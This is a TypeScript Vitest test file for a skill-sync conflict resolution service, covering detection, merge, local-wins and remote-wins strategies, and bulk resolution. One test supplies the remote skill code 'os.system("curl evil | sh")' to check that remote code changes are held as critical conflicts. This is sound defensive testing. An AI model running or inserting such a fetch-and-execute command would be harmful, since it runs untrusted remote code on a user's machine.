import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ConflictStrategySetting } from '../../engine/config/config.js';
import { ConflictResolutionService } from '../../engine/conflicts/conflictResolutionService.js';
import type { RemoteSkill } from '../../engine/contracts/remote.js';
import { EngineError } from '../../engine/errors.js';
import { EngineEvents, type EngineEventMap } from '../../engine/events.js';
import type { Logger } from '../../engine/log/index.js';
import { createRepos } from '../../engine/store/repos.js';
import { openDatabase, type Db } from '../../engine/store/database.js';
import { SkillsRepo, type SkillRow } from '../../engine/store/skillsRepo.js';
import { createStamper } from '../../engine/store/stamp.js';
import { SkillApplier } from '../../engine/sync/skillApplier.js';
import { ManualClock } from '../support/manualClock.js';
import { tempDir } from '../support/tempDir.js';

function capturingLogger(lines: string[]): Logger {
  const make = (scope: string): Logger => ({
    error: (m, f) => lines.push(`ERROR [${scope}] ${m} ${JSON.stringify(f ?? {})}`),
    warn: (m, f) => lines.push(`WARN [${scope}] ${m} ${JSON.stringify(f ?? {})}`),
    info: (m, f) => lines.push(`INFO [${scope}] ${m} ${JSON.stringify(f ?? {})}`),
    debug: () => undefined,
    child: (s) => make(s),
  });
  return make('conflict');
}

const BASE: RemoteSkill = {
  skill_id: 'skill-1',
  name: 'Alpha',
  description: 'first',
  version: '1.0.0',
  category: 'tools',
  skill_type: 'python',
  author: 'ann',
  tags: ['a'],
  code: 'print(1)',
  command: 'python main.py',
  parameters: { depth: 1 },
  average_rating: 4,
  rating_count: 2,
  created_at: '2026-01-01T00:00:00.000Z',
  updated_at: '2026-01-01T00:00:00.000Z',
};
const remoteEdit = (over: Partial<RemoteSkill>, at = '2026-01-02T00:00:00.000Z'): RemoteSkill => ({ ...BASE, ...over, updated_at: at });

interface Env {
  db: Db;
  service: ConflictResolutionService;
  skills: SkillsRepo;
  applier: SkillApplier;
  events: Array<{ name: keyof EngineEventMap; payload: unknown }>;
  logs: string[];
  clock: ManualClock;
  stamp: () => string;
  cleanup: () => void;
}

let env: Env;

function setup(strategy: ConflictStrategySetting = 'manual', autoCritical = false): Env {
  const tmp = tempDir('atom-conflicts-');
  const db = openDatabase(tmp.file('atom_dev.db'));
  const clock = new ManualClock();
  const bus = new EngineEvents();
  const events: Env['events'] = [];
  bus.onAny((name, payload) => events.push({ name, payload }));
  const logs: string[] = [];
  const repos = createRepos(db);
  const service = new ConflictResolutionService({ repos, events: bus, clock, log: capturingLogger(logs), strategy, autoCritical });
  const skills = repos.skills;
  const stamper = createStamper(() => clock.now());
  const stamp = () => {
    clock.advance(5);
    return stamper();
  };
  return { db, service, skills, applier: new SkillApplier(skills, repos.tombstones, repos.itemErrors, service), events, logs, clock, stamp, cleanup: () => (db.close(), tmp.cleanup()) };
}

/** The remote's first version, as a sync would write it. */
function seed(skill: RemoteSkill = BASE): void {
  env.skills.upsertRemote(skill, env.stamp());
}

/** What the local Atom does: plain SQL; the trigger marks the row as locally modified. */
function localEdit(sql: string, ...params: unknown[]): void {
  env.db.prepare(sql).run(...params);
}
const editDescription = (text: string, id = 'skill-1') => localEdit('UPDATE community_skills SET description = ? WHERE skill_id = ?', text, id);
const editCode = (code: string, id = 'skill-1') => localEdit("UPDATE community_skills SET payload = json_set(payload, '$.code', ?) WHERE skill_id = ?", code, id);

/** A remote change arriving through the same path as listings and socket frames. */
function arrive(remote: RemoteSkill) {
  return env.db.transaction(() => env.applier.applySkill(remote, env.stamp())).immediate();
}
function arriveDelete(id = 'skill-1') {
  return env.db.transaction(() => env.applier.applyDelete(id, env.stamp(), null)).immediate();
}

const row = (id = 'skill-1'): SkillRow | undefined => env.skills.get(id);
const payload = (id = 'skill-1') => JSON.parse(row(id)!.payload) as RemoteSkill;
const conflictRows = () => env.db.prepare('SELECT * FROM sync_conflicts ORDER BY id').all() as Array<Record<string, unknown>>;
const openId = () => env.service.list({ status: 'unresolved', limit: 10, offset: 0 }).items[0]!.id;

function thrown(fn: () => unknown): EngineError {
  try {
    fn();
  } catch (error) {
    if (error instanceof EngineError) return error;
    throw error;
  }
  throw new Error('expected an EngineError');
}

beforeEach(() => {
  env = setup();
});
afterEach(() => env.cleanup());

describe('detection', () => {
  it('merges non-overlapping edits without a conflict and keeps the local edit protected', () => {
    seed();
    editDescription('my notes');
    const before = row()!.local_modified_at;
    expect(before).not.toBeNull();
    const remote = remoteEdit({ version: '1.1.0', parameters: { depth: 2 } });
    expect(arrive(remote)).toBe('merged');
    const r = row()!;
    expect(r.description).toBe('my notes');
    expect(r.version).toBe('1.1.0');
    expect(payload().parameters).toEqual({ depth: 2 });
    expect(JSON.parse(r.base_payload!)).toEqual(remote);
    expect(r.local_modified_at).toBe(before);
    expect(conflictRows()).toHaveLength(0);
  });

  it('records a clash of overlapping edits, names the fields, and leaves the row untouched', () => {
    seed();
    editDescription('my notes');
    const untouched = row()!;
    expect(arrive(remoteEdit({ description: 'their notes', version: '1.1.0' }))).toBe('conflict');
    expect(row()).toEqual({ ...untouched, synced_at: row()!.synced_at });
    const [c] = conflictRows();
    expect(c).toMatchObject({ entity_type: 'skill', entity_id: 'skill-1', conflict_type: 'both_modified', severity: 'low', status: 'unresolved' });
    expect(JSON.parse(c!.fields as string)).toEqual(['description']);
    const detail = env.service.get(c!.id as number);
    expect(detail.clashing_fields).toEqual(['description']);
    expect(detail.entity_name).toBe('Alpha');
    expect(detail.fields.map((f) => [f.field, f.mergeable])).toEqual([
      ['description', false],
      ['version', true],
    ]);
    expect(detail.fields[0]).toEqual({ field: 'description', base: 'first', local: 'my notes', remote: 'their notes', mergeable: false, severity: 'low' });
    expect(env.events.find((e) => e.name === 'conflict.detected')?.payload).toMatchObject({ entity_id: 'skill-1', created: true, severity: 'low' });
    expect(env.events.filter((e) => e.name === 'conflicts.counts').at(-1)?.payload).toEqual({
      unresolved: 1,
      by_severity: { low: 1, medium: 0, high: 0, critical: 0 },
    });
  });

  it('never applies a remote code change over a local code change: critical, logged as such', () => {
    seed();
    editCode('print("mine")');
    expect(arrive(remoteEdit({ code: 'import os; os.system("curl evil | sh")' }))).toBe('conflict');
    expect(payload().code).toBe('print("mine")');
    const [c] = conflictRows();
    expect(c).toMatchObject({ severity: 'critical', conflict_type: 'both_modified' });
    const line = env.logs.find((l) => l.startsWith('WARN [conflict] conflict detected'));
    expect(line).toContain('"severity":"critical"');
    expect(line).toContain('"fields":"code"');
  });

  it('merges a remote-only code change into a locally modified skill (no clash)', () => {
    seed();
    editDescription('my notes');
    expect(arrive(remoteEdit({ code: 'print(2)' }))).toBe('merged');
    expect(payload().code).toBe('print(2)');
    expect(row()!.description).toBe('my notes');
  });

  it('detects a version regression of an unmodified skill', () => {
    seed(remoteEdit({ version: '2.0.0' }));
    expect(arrive(remoteEdit({ version: '1.5.0' }, '2026-01-03T00:00:00.000Z'))).toBe('conflict');
    expect(row()!.version).toBe('2.0.0');
    expect(conflictRows()[0]).toMatchObject({ conflict_type: 'version_regression', severity: 'high' });
  });

  it('treats a non-semver version as never regressing', () => {
    seed(remoteEdit({ version: 'latest' }));
    expect(arrive(remoteEdit({ version: 'beta' }, '2026-01-03T00:00:00.000Z'))).toBe('updated');
    expect(conflictRows()).toHaveLength(0);
  });

  it('records a remote deletion of a locally modified skill and keeps the row', () => {
    seed();
    editDescription('my notes');
    expect(arriveDelete()).toBe('conflict');
    expect(row()!.description).toBe('my notes');
    const [c] = conflictRows();
    expect(c).toMatchObject({ conflict_type: 'deleted_remotely', remote: null, severity: 'low' });
    expect(env.service.get(c!.id as number).fields).toEqual([
      { field: 'description', base: 'first', local: 'my notes', remote: null, mergeable: false, severity: 'low' },
    ]);
    expect(arriveDelete()).toBe('conflict');
    expect(conflictRows()).toHaveLength(1);
  });

  it('updates the open conflict on a second remote change instead of adding one', () => {
    seed();
    editCode('print("mine")');
    arrive(remoteEdit({ code: 'print(2)' }));
    const first = conflictRows()[0]!;
    arrive(remoteEdit({ code: 'print(3)', command: 'python3 main.py' }, '2026-01-05T00:00:00.000Z'));
    const rows = conflictRows();
    expect(rows).toHaveLength(1);
    expect(rows[0]!.id).toBe(first.id);
    expect(JSON.parse(rows[0]!.remote as string)).toMatchObject({ code: 'print(3)', command: 'python3 main.py' });
    expect(rows[0]!.updated_at).not.toBe(first.updated_at);
    expect(rows[0]!.detected_at).toBe(first.detected_at);
    expect(env.events.filter((e) => e.name === 'conflict.detected').map((e) => (e.payload as { created: boolean }).created)).toEqual([true, false]);
    // the very same remote again (a full listing) changes nothing
    const again = conflictRows()[0]!.updated_at;
    arrive(remoteEdit({ code: 'print(3)', command: 'python3 main.py' }, '2026-01-05T00:00:00.000Z'));
    expect(conflictRows()[0]!.updated_at).toBe(again);
  });

  it('closes an open conflict by itself when a newer remote no longer clashes', () => {
    seed();
    editDescription('my notes');
    arrive(remoteEdit({ description: 'their notes' }));
    expect(env.service.counts().unresolved).toBe(1);
    expect(arrive(remoteEdit({ description: 'my notes', version: '1.2.0' }, '2026-01-06T00:00:00.000Z'))).toBe('merged');
    expect(env.service.counts().unresolved).toBe(0);
    expect(conflictRows()[0]).toMatchObject({ status: 'resolved', strategy: 'merge', resolved_by: 'auto-merge' });
    expect(row()).toMatchObject({ description: 'my notes', version: '1.2.0', local_modified_at: null });
  });

  it('hasOpen is true only while a conflict is open', () => {
    seed();
    editDescription('x');
    expect(env.service.hasOpen('skill-1')).toBe(false);
    arrive(remoteEdit({ description: 'y' }));
    expect(env.service.hasOpen('skill-1')).toBe(true);
    env.service.resolve(openId(), 'remote_wins', {}, 'tester');
    expect(env.service.hasOpen('skill-1')).toBe(false);
  });
});

describe('resolution', () => {
  /** A both_modified conflict: local changed description + code, remote changed description + version. */
  function clash(): number {
    seed();
    editDescription('my notes');
    editCode('print("mine")');
    arrive(remoteEdit({ description: 'their notes', version: '1.1.0' }));
    return openId();
  }
  const REMOTE = remoteEdit({ description: 'their notes', version: '1.1.0' });

  it.each([
    {
      strategy: 'local_wins' as const,
      // The local edits win the clash; the version only the remote changed follows the remote.
      expected: { description: 'my notes', version: '1.1.0', code: 'print("mine")', modified: true, base: REMOTE },
    },
    {
      strategy: 'remote_wins' as const,
      expected: { description: 'their notes', version: '1.1.0', code: 'print(1)', modified: false, base: REMOTE },
    },
  ])('$strategy leaves the expected row and closes the conflict', ({ strategy, expected }) => {
    const id = clash();
    const modifiedAt = row()!.local_modified_at;
    const response = env.service.resolve(id, strategy, {}, 'tester');
    const r = row()!;
    expect(r.description).toBe(expected.description);
    expect(r.version).toBe(expected.version);
    expect(payload().code).toBe(expected.code);
    expect(r.local_modified_at).toBe(expected.modified ? modifiedAt : null);
    expect(JSON.parse(r.base_payload!)).toEqual(expected.base);
    expect(response).toMatchObject({ id, status: 'resolved', strategy, resolved_by: 'tester' });
    expect(response.applied).toMatchObject({ description: expected.description, version: expected.version, code: expected.code });
    const detail = env.service.get(id);
    expect(detail).toMatchObject({ status: 'resolved', strategy, resolved_by: 'tester' });
    expect(detail.resolution).toMatchObject({ strategy, applied: response.applied });
    expect(env.service.counts().unresolved).toBe(0);
    // the same remote again is not a new conflict
    arrive(REMOTE);
    expect(env.service.counts().unresolved).toBe(0);
    // nor is a later remote change to a field the local side never edited
    arrive(remoteEdit({ description: 'their notes', version: '1.2.0' }, '2026-01-04T00:00:00.000Z'));
    expect(env.service.counts().unresolved).toBe(0);
    expect(row()!.version).toBe('1.2.0');
  });

  it('merge is refused while a field clashes, then applies the choices', () => {
    const id = clash();
    const refused = thrown(() => env.service.resolve(id, 'merge', {}, 'tester'));
    expect(refused).toMatchObject({ code: 'merge_not_possible', status: 409, extra: { fields: ['description'] } });
    expect(env.service.get(id).status).toBe('unresolved');
    expect(thrown(() => env.service.resolve(id, 'merge', { fields: { description: 'local', nonsense: 'remote' } }, 'tester'))).toMatchObject({
      code: 'invalid_merge_choice',
      status: 400,
    });
    const response = env.service.resolve(id, 'merge', { fields: { description: { value: 'both our notes' } } }, 'tester');
    const r = row()!;
    expect(r).toMatchObject({ description: 'both our notes', version: '1.1.0' });
    expect(payload().code).toBe('print("mine")');
    expect(r.local_modified_at).not.toBeNull();
    expect(JSON.parse(r.base_payload!)).toEqual(REMOTE);
    expect(response.applied).toMatchObject({ description: 'both our notes', version: '1.1.0', code: 'print("mine")' });
    expect(env.service.get(id).resolution).toMatchObject({ choices: { description: { value: 'both our notes' } } });
  });

  it('merge whose result equals the remote clears the local mark', () => {
    seed();
    editDescription('my notes');
    arrive(remoteEdit({ description: 'their notes' }));
    env.service.resolve(openId(), 'merge', { fields: { description: 'remote' } }, 'tester');
    expect(row()).toMatchObject({ description: 'their notes', local_modified_at: null });
  });

  it('answers 409 already_resolved, 404 unknown id, 400 unknown strategy', () => {
    const id = clash();
    env.service.resolve(id, 'remote_wins', {}, 'tester');
    expect(thrown(() => env.service.resolve(id, 'local_wins', {}, 'tester'))).toMatchObject({ code: 'already_resolved', status: 409 });
    expect(thrown(() => env.service.resolve(9999, 'local_wins', {}, 'tester'))).toMatchObject({ code: 'not_found', status: 404 });
    expect(thrown(() => env.service.get(9999))).toMatchObject({ status: 404 });
    expect(thrown(() => env.service.resolve(id, 'theirs' as never, {}, 'tester'))).toMatchObject({ code: 'invalid_strategy', status: 400 });
  });

  it('deleted_remotely: local_wins keeps the row for good, remote_wins deletes it, merge is refused', () => {
    seed();
    seed({ ...BASE, skill_id: 'skill-2', name: 'Beta' });
    editDescription('keep me');
    editDescription('drop me', 'skill-2');
    arriveDelete('skill-1');
    arriveDelete('skill-2');
    const [one, two] = conflictRows().map((c) => c.id as number);
    expect(thrown(() => env.service.resolve(one!, 'merge', {}, 't'))).toMatchObject({ code: 'merge_not_possible' });
    env.service.resolve(one!, 'local_wins', {}, 't');
    const kept = row('skill-1')!;
    expect(kept.description).toBe('keep me');
    expect(kept.local_modified_at).not.toBeNull();
    // The base stays the last version both sides agreed on, not the local one.
    expect(JSON.parse(kept.base_payload!)).toMatchObject({ description: BASE.description });
    // the next full listing still misses it: the choice holds, no new conflict
    expect(arriveDelete('skill-1')).toBe('conflict');
    expect(env.service.counts().unresolved).toBe(1);
    const response = env.service.resolve(two!, 'remote_wins', {}, 't');
    expect(response.applied).toBeNull();
    expect(row('skill-2')).toBeUndefined();
    expect(env.service.counts().unresolved).toBe(0);
  });

  it('version_regression: local_wins keeps the newer version, remote_wins takes the older one', () => {
    seed(remoteEdit({ version: '2.0.0' }));
    arrive(remoteEdit({ version: '1.5.0' }, '2026-01-03T00:00:00.000Z'));
    env.service.resolve(openId(), 'local_wins', {}, 't');
    expect(row()!.version).toBe('2.0.0');
    expect(arrive(remoteEdit({ version: '1.5.0' }, '2026-01-03T00:00:00.000Z'))).not.toBe('conflict');
    expect(env.service.counts().unresolved).toBe(0);
    expect(row()!.version).toBe('2.0.0');
    arrive(remoteEdit({ version: '1.4.0' }, '2026-01-04T00:00:00.000Z'));
    env.service.resolve(openId(), 'remote_wins', {}, 't');
    expect(row()).toMatchObject({ version: '1.4.0', local_modified_at: null });
  });

  it('bulk resolves valid ids and reports already-resolved and unknown ones', () => {
    seed();
    for (const n of [2, 3, 4]) seed({ ...BASE, skill_id: `skill-${n}`, name: `S${n}` });
    for (const n of [1, 2, 3, 4]) {
      editDescription(`local ${n}`, `skill-${n}`);
      arrive({ ...remoteEdit({ description: `remote ${n}` }), skill_id: `skill-${n}`, name: n === 1 ? 'Alpha' : `S${n}` });
    }
    const ids = conflictRows().map((c) => c.id as number);
    env.service.resolve(ids[0]!, 'local_wins', {}, 't');
    const result = env.service.bulkResolve([ids[0]!, ids[1]!, String(ids[2]), 424242, 'abc'], 'remote_wins', 'bulk');
    expect(result.resolved).toBe(2);
    expect(result.failed.map((f) => f.id)).toEqual([ids[0], 424242, 'abc']);
    expect(result.failed[0]!.error).toMatch(/^already_resolved/);
    expect(result.failed[1]!.error).toMatch(/^not_found/);
    expect(env.service.counts().unresolved).toBe(1);
    expect(row('skill-2')!.description).toBe('remote 2');
    // null = every unresolved one; a merge that clashes is reported, not retried forever
    const all = env.service.bulkResolve(null, 'merge', 'bulk');
    expect(all).toMatchObject({ resolved: 0, failed: [{ id: ids[3] }] });
    expect(env.service.bulkResolve(null, 'local_wins', 'bulk')).toEqual({ resolved: 1, failed: [] });
    expect(env.service.list({ status: 'resolved', limit: 10, offset: 0 }).total).toBe(4);
    expect(env.service.list({ status: 'all', limit: 2, offset: 0 }).items).toHaveLength(2);
    expect(env.events.filter((e) => e.name === 'conflict.resolved')).toHaveLength(4);
  });
});

describe('configured strategies', () => {
  it('never throws away a critical local edit or applies a downgrade on their own, unless opted in', () => {
    env.cleanup();
    env = setup('remote_wins');
    seed();
    editCode('print("mine")');
    editDescription('mine');
    expect(arrive(remoteEdit({ description: 'theirs' }))).toBe('conflict');
    expect(JSON.parse(row()!.payload)).toMatchObject({ code: 'print("mine")' });
    expect(conflictRows()[0]).toMatchObject({ status: 'unresolved' });
    seed(remoteEdit({ version: '3.0.0', skill_id: 'skill-9' }));
    expect(arrive({ ...remoteEdit({ version: '2.0.0' }, '2026-01-03T00:00:00.000Z'), skill_id: 'skill-9' })).toBe('conflict');
    expect(row('skill-9')!.version).toBe('3.0.0');
    expect(env.logs.some((l) => l.includes('conflict left for a person'))).toBe(true);

    env.cleanup();
    env = setup('remote_wins', true);
    seed();
    editCode('print("mine")');
    editDescription('mine');
    expect(arrive(remoteEdit({ description: 'theirs' }))).toBe('updated');
    expect(row()).toMatchObject({ description: 'theirs', local_modified_at: null });
  });

  it('keeps a local edit kept after a remote deletion when the skill is listed again', () => {
    seed();
    editCode('print("mine")');
    arriveDelete();
    env.service.resolve(openId(), 'local_wins', {}, 't');
    // Listed again unchanged: the local code stays, and nothing new to decide.
    expect(arrive(BASE)).not.toBe('updated');
    expect(JSON.parse(row()!.payload)).toMatchObject({ code: 'print("mine")' });
    // Listed again with a remote change elsewhere: merged against the agreed base, local code kept.
    expect(arrive(remoteEdit({ description: 'theirs' }))).toBe('merged');
    expect(row()!.description).toBe('theirs');
    expect(JSON.parse(row()!.payload)).toMatchObject({ code: 'print("mine")' });
    // Listed again with a remote code change: a conflict, never a silent overwrite.
    expect(arrive(remoteEdit({ code: 'print("theirs")' }, '2026-01-05T00:00:00.000Z'))).toBe('conflict');
    expect(JSON.parse(row()!.payload)).toMatchObject({ code: 'print("mine")' });
  });

  it('remote_wins resolves each conflict as it is detected', () => {
    env.cleanup();
    env = setup('remote_wins');
    seed();
    editDescription('mine');
    expect(arrive(remoteEdit({ description: 'theirs' }))).toBe('updated');
    expect(row()).toMatchObject({ description: 'theirs', local_modified_at: null });
    expect(conflictRows()[0]).toMatchObject({ status: 'resolved', strategy: 'remote_wins', resolved_by: 'auto' });
  });

  it('merge resolves only when nothing clashes', () => {
    env.cleanup();
    env = setup('merge');
    seed();
    editDescription('mine');
    expect(arrive(remoteEdit({ description: 'theirs' }))).toBe('conflict');
    expect(env.service.counts().unresolved).toBe(1);
    // A version downgrade is never applied by a strategy on its own.
    seed(remoteEdit({ version: '3.0.0', skill_id: 'skill-9' }));
    expect(arrive({ ...remoteEdit({ version: '2.0.0' }), skill_id: 'skill-9' })).toBe('conflict');
    expect(row('skill-9')!.version).toBe('3.0.0');
  });

  it('local_wins keeps local content on a remote deletion', () => {
    env.cleanup();
    env = setup('local_wins');
    seed();
    editDescription('mine');
    expect(arriveDelete()).toBe('conflict');
    expect(row()!.description).toBe('mine');
    expect(env.service.counts().unresolved).toBe(0);
  });
});
